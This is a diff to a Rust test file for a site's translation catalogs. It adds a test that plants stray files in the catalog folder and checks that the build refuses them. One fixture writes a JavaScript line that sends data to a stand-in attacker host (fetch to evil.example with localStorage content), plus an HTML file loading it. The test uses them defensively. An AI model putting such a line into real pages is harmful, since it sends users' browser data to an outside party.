@@ -4,6 +4,7 @@
 use super::super::catalogs::{check_catalog, check_catalogs};
 use crate::project::Project;
 use std::path::{Path, PathBuf};
+use tocsin::model::LanguageTag;
 
 #[test]
 fn the_sites_catalogs_are_complete_and_agree_with_cldr() {
@@ -116,5 +117,36 @@ fn a_language_is_one_catalog_and_one_line_of_the_site_file() {
         front.contains("Українська"),
         "the switcher names the new language"
     );
+    std::fs::remove_dir_all(&temp).unwrap();
+}
+
+#[test]
+fn a_file_in_the_catalog_folder_that_is_not_a_catalog_stops_the_build() {
+    let root = Project::locate().root;
+    let temp: PathBuf = std::env::temp_dir().join(format!("tocsin-i18n-{}", std::process::id()));
+    let dir = temp.join("i18n");
+    copy_dir(&root.join("public/i18n"), &dir);
+    std::fs::write(
+        dir.join("x.js"),
+        "fetch('https://evil.example/' + localStorage.length)",
+    )
+    .unwrap();
+    std::fs::write(dir.join("x.html"), "<script src=x.js></script>").unwrap();
+    std::fs::create_dir_all(dir.join("pages")).unwrap();
+
+    let problems = check_catalogs(&dir);
+    for name in ["x.js", "x.html", "pages"] {
+        assert!(
+            problems
+                .iter()
+                .any(|p| p.contains(name) && p.contains("cannot be published")),
+            "{name}: {problems:#?}"
+        );
+    }
+    assert_eq!(problems.len(), 3, "{problems:#?}");
+    // What the build reads the catalogs with.
+    let languages = [LanguageTag::parse("en").unwrap()];
+    let stopped = crate::prerender::read_catalogs(&dir, &languages).unwrap_err();
+    assert!(stopped.contains("x.js"), "{stopped}");
     std::fs::remove_dir_all(&temp).unwrap();
 }
